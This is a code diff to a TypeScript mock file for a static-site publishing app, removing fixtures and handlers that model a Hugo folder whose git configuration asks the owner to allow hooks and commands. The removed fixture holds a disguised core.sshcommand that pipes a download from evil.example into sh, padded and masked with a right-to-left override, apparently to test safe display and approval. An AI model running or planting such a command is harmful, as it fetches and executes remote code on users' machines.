@@ -44,24 +44,6 @@ const fitting: FoundSite['suggested'] = {
 export const hugoFolder: SiteFolderSettings = { ...fitting, on: true };
 
 type FolderStatus = Result<'siteFolder.status'>;
-const noRuns = { runs: [], isAllowed: true };
-
-/** What a repository may bring along, with texts that try to look like something else. */
-export const hostileRuns: FoundSite['runs'] = [
-  {
-    kind: 'hook',
-    name: 'pre-push',
-    command: '/home/robin/site/.git/hooks/pre-push (SHA-256 0f343b0931126a20f133d67c2b018a3b…)',
-  },
-  { kind: 'filter', name: 'filter.git-crypt.clean', command: '"git-crypt" clean' },
-  { kind: 'connection', name: 'remote.origin.url', command: '/media/robin/nas/site.git' },
-  {
-    kind: 'connection',
-    name: 'core.sshcommand',
-    command: `sh -c 'curl https://evil.example/${'x'.repeat(160)} | sh' \\u{202e}drowssap <b>bold</b>`,
-  },
-  { kind: 'setting', name: 'gui.geometry', command: '' },
-];
 
 /** Returns what a folder of Hugo holds. */
 export function foundIn(path: string): FoundSite {
@@ -72,14 +54,8 @@ export function foundIn(path: string): FoundSite {
     posts: 214,
     warnings: [],
     repository: { branch: 'main', remotes: ['origin'], remote: 'origin', words: null },
-    ...noRuns,
     suggested: { ...fitting, path },
   };
-}
-
-/** A folder whose repository names programs that the owner has not allowed yet. */
-function foundWithRuns(path: string): FoundSite {
-  return { ...foundIn(path), runs: hostileRuns, isAllowed: false };
 }
 
 /** A folder that no known generator builds, and that is not in git. */
@@ -159,7 +135,6 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
     unpublished: 0,
     last: null,
     items: [],
-    ...noRuns,
   }),
   idle: (now) => ({
     state: 'idle',
@@ -169,7 +144,6 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
     unpublished: 96,
     last: last(now),
     items: [],
-    ...noRuns,
   }),
   working: (now) => ({
     state: 'working',
@@ -179,7 +153,6 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
     unpublished: 0,
     last: last(now),
     items: [item(now, 'well', { title: 'Like of wren.example' })],
-    ...noRuns,
   }),
   waiting: (now) => ({
     state: 'waiting',
@@ -191,7 +164,6 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
     items: Array.from({ length: 14 }, (_, index) =>
       item(now, `note-${index + 1}`, { title: `Note ${index + 1}`, since: at(now, -20 - index) }),
     ),
-    ...noRuns,
   }),
   trouble: (now) => ({
     state: 'trouble',
@@ -201,25 +173,8 @@ export const folderStates: Readonly<Record<FolderStatus['state'], (now: number) 
     last: last(now),
     words: '2 posts are in conflict with files of your site, and 1 page is late.',
     items: troubledItems(now),
-    ...noRuns,
   }),
 };
-
-/** A folder that waits until the owner allows what its repository runs. */
-export function blockedState(now: number): FolderStatus {
-  return {
-    state: 'trouble',
-    waiting: 1,
-    conflicts: 0,
-    unpublished: 0,
-    last: last(now),
-    words:
-      'Publishing waits until you allow what this folder’s git configuration runs and uses: pre-push, filter.git-crypt.clean, 3 more. Check the list in Settings, Your own site.',
-    items: [item(now, 'well', { title: 'Like of wren.example' })],
-    runs: hostileRuns,
-    isAllowed: false,
-  };
-}
 
 /** Turns the folder of a house on, in this state. */
 export function withFolder(house: House, state: Exclude<FolderStatus['state'], 'off'>, now: number): House {
@@ -248,17 +203,7 @@ export function folderHandlers(house: House): FolderHandlers {
     'siteFolder.detect': answer(({ path }) => {
       if (path.endsWith('.jpg'))
         throw new PorchlightError('invalid_path', 'This isn’t a folder. Choose the folder of your site.');
-      if (path.endsWith('hooks')) return foundWithRuns(path);
       return path.endsWith('plain') ? foundWithoutGit(path) : foundIn(path);
-    }),
-    'siteFolder.allow': answer(({ runs }) => {
-      if (runs.length !== hostileRuns.length)
-        throw new PorchlightError(
-          'conflict',
-          'The folder’s git configuration has changed. Check the folder again.',
-        );
-      if (house.folder) house.folder = { ...folderStates.working(Date.now()), runs: hostileRuns };
-      return status();
     }),
     'siteFolder.preview': answer(({ kind = 'note', settings }) => {
       const { postFile, postUrl, baseUrl, media } = { ...house.settings.siteFolder, ...settings };
